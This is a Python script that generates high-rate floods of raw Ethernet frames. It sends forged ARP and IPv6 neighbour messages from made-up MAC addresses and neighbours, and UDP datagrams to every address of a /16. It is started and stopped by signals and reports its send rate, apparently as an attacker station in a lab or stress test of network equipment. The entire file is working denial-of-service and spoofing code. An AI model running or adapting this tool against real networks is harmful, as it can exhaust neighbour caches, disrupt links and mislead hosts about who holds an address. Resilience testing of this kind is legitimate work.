"""A flood of frames, from a station that means harm: many thousands a second, none like the other.

    flood.py INTERFACE arp|nd|destinations --rate N --target ADDRESS [--source ADDRESS --mac MAC]

arp, nd        neighbour messages of made-up neighbours in the /16 (or /64) of TARGET, the port's own address
destinations   UDP datagrams to every address of the /16 (or the same number in the /112) at TARGET, from SOURCE, to the station MAC

SIGUSR1 starts it, SIGUSR2 stops it, SIGTERM ends it; then it prints how many frames it sent, and in which time. Python is fast enough
because the kernel takes hundreds of ready-made frames in one call (sendmmsg).
"""

import argparse
import ctypes
import json
import random
import signal
import socket
import struct
import time
from ipaddress import ip_address

DIFFERENT = 1 << 16
BATCH = 128
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
ALL_NODES = (bytes.fromhex("333300000001"), ip_address("ff02::1").packed)
PORT = 9


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    """struct mmsghdr of sys/socket.h."""

    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("iov", ctypes.POINTER(Iovec)), ("iov_length", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int), ("sent", ctypes.c_uint32)]


class Frames:
    """Ready to be sent, over and over."""

    def __init__(self, frames):
        self.count = len(frames)
        self.bytes = ctypes.create_string_buffer(b"".join(frames))
        self.iovecs = (Iovec * self.count)()
        self.messages = (Message * self.count)()
        at = ctypes.addressof(self.bytes)
        for number, frame in enumerate(frames):
            self.iovecs[number].base, self.iovecs[number].length = at, len(frame)
            self.messages[number].iov, self.messages[number].iov_length = ctypes.pointer(self.iovecs[number]), 1
            at += len(frame)
        self.next = 0
        self.libc = ctypes.CDLL(None, use_errno=True)

    def send(self, sock, wanted):
        """Sends up to `wanted`; how many the kernel took."""
        wanted = min(wanted, BATCH, self.count - self.next)
        first = ctypes.byref(self.messages, self.next * ctypes.sizeof(Message))
        sent = max(self.libc.sendmmsg(sock.fileno(), first, wanted, 0), 0)
        self.next = (self.next + sent) % self.count
        return sent


def arp(target, dice):
    """Requests for the target, answers that nobody asked for, and announcements."""
    for _ in range(DIFFERENT):
        mac, liar = made_up_mac(dice), neighbour(target, dice)
        operation, wanted = dice.choice([(1, target.packed), (2, target.packed), (1, liar)])
        yield b"\xff" * 6 + mac + struct.pack("!HHHBBH6s4s6s4s", 0x0806, 1, 0x0800, 6, 4, operation, mac, liar, bytes(6), wanted)


def nd(target, dice):
    """Solicitations for the target, and advertisements that nobody asked for."""
    group = target.packed[13:]
    to_group = (b"\x33\x33\xff" + group, ip_address("ff02::1:ff00:0").packed[:13] + group)
    for _ in range(DIFFERENT):
        mac, liar = made_up_mac(dice), neighbour(target, dice)
        if dice.random() < 0.5:
            ether, destination, message = *to_group, struct.pack("!BBHI16sBB6s", 135, 0, 0, 0, target.packed, 1, 1, mac)
        else:
            ether, destination, message = *ALL_NODES, struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000, liar, 2, 1, mac)
        sum16 = checksum(liar + destination + struct.pack("!II", len(message), 58) + message)
        message = message[:2] + struct.pack("!H", sum16) + message[4:]
        yield ether + mac + struct.pack("!HIHBB", 0x86DD, 6 << 28, len(message), 58, 255) + liar + destination + message


def destinations(target, dice, source, mac, own):
    """Each address once, in no order."""
    numbers = list(range(DIFFERENT))
    dice.shuffle(numbers)
    for number in numbers:
        destination = target.packed[:-2] + struct.pack("!H", number)
        udp = struct.pack("!HHHH", 40000, PORT, 8, 0)
        if target.version == 4:
            header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source.packed + destination
            header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
            yield mac + own + b"\x08\x00" + header + udp  # a checksum of zero: none
        else:
            sum16 = checksum(source.packed + destination + struct.pack("!II", len(udp), 17) + udp) or 0xFFFF
            udp = udp[:6] + struct.pack("!H", sum16)
            yield mac + own + struct.pack("!HIHBB", 0x86DD, 6 << 28, len(udp), 17, 64) + source.packed + destination + udp


def neighbour(target, dice):
    """An address on the target's link, and not the target's."""
    length = 2 if target.version == 4 else 8
    return target.packed[:-length] + (dice.getrandbits(8 * length - 1) | 0x300).to_bytes(length, "big")


def made_up_mac(dice):
    return b"\x02" + dice.randbytes(5)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def main():
    parser = argparse.ArgumentParser(description="a flood of frames")
    parser.add_argument("interface")
    parser.add_argument("kind", choices=["arp", "nd", "destinations"])
    parser.add_argument("--rate", type=int, required=True)
    parser.add_argument("--target", type=ip_address, required=True)
    parser.add_argument("--source", type=ip_address)
    parser.add_argument("--mac", type=lambda text: bytes.fromhex(text.replace(":", "")))
    options = parser.parse_args()

    flooding, running = [], [True]
    signal.signal(signal.SIGUSR1, lambda *_: flooding.append(True))
    signal.signal(signal.SIGUSR2, lambda *_: flooding.clear())
    signal.signal(signal.SIGTERM, lambda *_: running.clear())

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((options.interface, 0))
    sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    dice = random.Random(1)
    if options.kind == "destinations":
        made = destinations(options.target, dice, options.source, options.mac, sock.getsockname()[4])
    else:
        made = {"arp": arp, "nd": nd}[options.kind](options.target, dice)
    frames = Frames(list(made))
    print(json.dumps({"ready": frames.count}), flush=True)

    sent, seconds, before = 0, 0.0, time.process_time()
    while running:
        if not flooding:
            time.sleep(0.01)
            continue
        began, round_sent = time.monotonic(), 0
        while flooding and running:
            due = int((time.monotonic() - began) * options.rate) - round_sent
            if due <= 0:
                time.sleep(0.0005)
                continue
            round_sent += frames.send(sock, due)
        seconds += time.monotonic() - began
        sent += round_sent
    print(json.dumps({"sent": sent, "seconds": seconds, "per_sec": int(sent / seconds) if seconds else 0,
                      "cpu_secs": round(time.process_time() - before, 2)}), flush=True)


if __name__ == "__main__":
    main()
